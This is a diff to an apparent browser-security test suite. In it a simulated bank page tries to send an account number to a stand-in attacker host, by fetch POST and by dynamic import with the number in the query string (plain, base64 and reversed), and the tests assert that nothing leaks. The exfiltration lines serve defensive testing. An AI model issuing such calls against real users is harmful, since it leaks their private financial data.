@@ -19,6 +19,7 @@ onmessage = ({ data, ports: [port] }) => { tell(data); if (port) port.onmessage 
 parent.postMessage('listening', '*');`;
 const [SLOW, SLOW_CODE] = ['slow.example', 'slow-code.example'];
 const ELSEWHERE = 'elsewhere.example';
+const PIECES = 'pieces.example';
 const ATTACKER = `http://${HOSTS.attacker}`;
 const PLAIN_WAYS = [
   `await fetch('${ATTACKER}/c/body', { method: 'POST', mode: 'no-cors', body: D })`,
@@ -73,6 +74,7 @@ const extra = {
   [PAY_API]: () => json({}, open),
   [PAY_CODE]: () => file('text/javascript', PAY_SCRIPT, open),
   [ELSEWHERE]: () => json([], open),
+  [PIECES]: () => file('text/javascript', 'export const name = "editor"', open),
 };
 const LOADED = '[...document.images].filter((i) => i.naturalWidth > 0).length';
 
@@ -168,6 +170,27 @@ describe('after a private read at the bank, where nobody is signed in', () => {
       await evaluate(`const D = ${JSON.stringify(account)}; ${way}`);
     await scene.hands.wait(1_500);
     assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
+  });
+
+  test('a piece of a signed-in page’s code elsewhere comes when it is asked for again, and takes nothing along', {
+    timeout: 60_000,
+  }, async () => {
+    const { hands, world } = scene;
+    sites.collector.records.length = 0;
+    await hands.goto(`http://${APP}/`);
+    await closed();
+    const piece = () => hands.run(`import('http://${PIECES}/editor.js').then(({ name }) => name, () => 'no')`);
+    await until(async () => (await piece()) === 'editor', 'the piece', 10_000);
+    await hands.goto(urlOf('bank', '/account'));
+    await closed();
+    const { account } = world.person;
+    for (const carried of [account, btoa(account), account.split('').reverse().join('')])
+      for (let n = 0; n < 3; n += 1) {
+        await evaluate(`await import('${ATTACKER}/c/code.js?d=${encodeURIComponent(carried)}')`);
+        await hands.wait(400);
+      }
+    assert.deepEqual(leaked(sites.collector.records, SECRETS), []);
+    assert.ok(!arrived('/c/code.js'), 'what carries a number was asked for');
   });
 
   test('a signed-in page sends a message by its interface elsewhere, first used late', {
